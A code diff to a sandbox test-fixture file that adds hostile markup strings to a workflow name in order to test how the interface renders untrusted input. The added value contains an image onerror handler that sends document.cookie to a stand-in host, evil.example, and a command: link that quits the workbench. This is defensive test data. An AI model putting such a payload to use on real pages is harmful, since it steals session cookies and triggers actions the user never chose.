@@ -20,11 +20,12 @@ export const SANDBOX_FIXTURES = {
   markupFirstName: 'a-b (c) [d]! *e* _f_ \\g `h` <b>i</b> & $(alert)',
   markupLastName: '![img](https://img.example/x.png) [link](https://evil.example) 🚀 שלום',
   /**
-   * A workflow whose name, tag and step issue hold HTML, markdown, icon and link syntax and
-   * right-to-left text (only with the sandbox option `markupWorkflow`).
+   * A workflow whose name, tag and step issue hold HTML, markdown, icon and link syntax, bare URLs,
+   * a `command:` link and right-to-left text (only with the sandbox option `markupWorkflow`).
    */
   markupWorkflowIdentifier: 'markup-workflow',
-  markupWorkflowName: '<img src=x onerror=alert(1)> **Invoice** $(alert) [link](https://evil.example) `code` שלום',
+  markupWorkflowName:
+    'Invoice <img src=https://img.example/act-wf-img onerror="fetch(\'https://evil.example/?c=\'+document.cookie)"> & <b>due</b> **now** $(alert) [open](command:workbench.action.quit) [link](https://evil.example) www.evil.example `code` שלום',
   markupWorkflowTag: '<b>vip</b> $(bell)',
   markupStepIssue: 'Subject <i>is</i> *required* $(error) [fix](https://evil.example)',
   /** Subscriber with no firstName/lastName (only an email). */
